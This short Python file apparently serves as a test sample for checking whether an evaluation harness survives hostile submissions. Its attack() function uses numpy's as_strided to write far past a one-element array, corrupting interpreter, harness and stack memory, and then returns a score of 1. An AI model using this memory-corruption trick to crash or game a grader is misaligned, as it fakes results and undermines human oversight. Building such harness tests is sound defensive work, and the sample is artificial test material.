# Writes over all memory behind an array: the interpreter, the harness and the stack.
#
# category = "interpreter"
# ending = ["crashed", "raised", "memory", "stack"]
import numpy as np


def attack():
    np.lib.stride_tricks.as_strided(np.zeros(1), (2 * 10**8,), (8,))[:] = 1.5
    return {"score": 1}
